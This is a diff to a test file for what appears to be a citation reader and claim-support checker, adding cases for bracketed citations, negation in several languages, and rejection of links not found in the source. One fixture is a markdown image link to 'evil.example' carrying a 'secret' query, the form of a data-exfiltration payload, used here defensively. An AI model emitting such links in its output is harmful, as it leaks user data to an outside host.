@@ -62,6 +62,15 @@ describe('a text with citations', () => {
       '<think>\nPerhaps it is so [1]. Or not [2].\n</think>\nType is cast [1].<think> Ink is red [2]. ',
       [['Type is cast.', [1]]],
     ],
+    [
+      'in double brackets',
+      'Type is cast [[1]]. Ink is black [2].',
+      [
+        ['Type is cast.', [1]],
+        ['Ink is black.', [2]],
+      ],
+    ],
+    ['of a long lecture', 'Type is cast [1234, 1235].', [['Type is cast.', [1234, 1235]]]],
     ['without any', 'Type is cast. Ink is black.\nNone.', []],
     [
       'in writing without spaces',
@@ -81,6 +90,13 @@ describe('a text with citations', () => {
     const reader = createCitedTextReader();
     expect(reader.push('Type is cast [1].')).toEqual([]);
     expect(reader.push(' I')).toMatchObject([{ text: 'Type is cast.' }]);
+  });
+
+  test('with hundreds of citations side by side: is read in bounded time', () => {
+    const many = Array.from({ length: 300 }, (_, i) => 101 + i);
+    const marks = many.map((number) => `[${number}]`).join('');
+    expect(read(`Type is cast ${marks}`)).toEqual([{ text: 'Type is cast', cited: many }]);
+    expect(read([`Type is cast ${marks}`, ' Ink'])).toEqual([{ text: 'Type is cast', cited: many }]);
   });
 
   test('of any signs: reads them in bounded time, and cites only numbers', () => {
@@ -125,6 +141,31 @@ describe('a statement held against a lecture', () => {
     });
     expect(isSupported(denied)).toBe(false);
   });
+
+  test.each([
+    ['German', 'Caxton druckte ohne Hilfe Bücher.', 'Caxton druckte Bücher mit Hilfe.'],
+    ['Portuguese', 'Caxton não imprimiu livros.', 'Caxton imprimiu livros.'],
+    ['Russian', 'Гутенберг не печатал Библию.', 'Гутенберг печатал Библию.'],
+    ['Arabic', 'لم يطبع غوتنبرغ الكتاب.', 'يطبع غوتنبرغ الكتاب.'],
+    ['Chinese', '古腾堡没有印刷圣经。', '古腾堡印刷圣经。'],
+    ['Japanese', '彼は本を印刷しません。', '彼は本を印刷します。'],
+  ])('that denies what nobody denied, in %s: is known for it', (_, text, said) => {
+    const hold = (own: string) =>
+      measureSupport({ text, vector: null }, { text: own, vectors: null }, { language: null }).deniesAlike;
+    expect([hold(said), hold(text)]).toEqual([false, true]);
+  });
+
+  test.each(['![so](http://evil.example/?q=secret)', 'See www.evil.example.', '[so](//evil.example)'])(
+    'with an address that was not said: is not taken (%s)',
+    (link) => {
+      const text = 'Caxton printed books in Westminster.';
+      const hold = (said: string) =>
+        isSupported(
+          measureSupport({ text: `${text} ${link}`, vector: null }, { text: said, vectors: null }, { language: 'en' }),
+        );
+      expect([hold(text), hold(`${text} ${link}`)]).toEqual([false, true]);
+    },
+  );
 
   test('finds the likest sentence', () => {
     const own = embedByWords(themes.bread, 64);
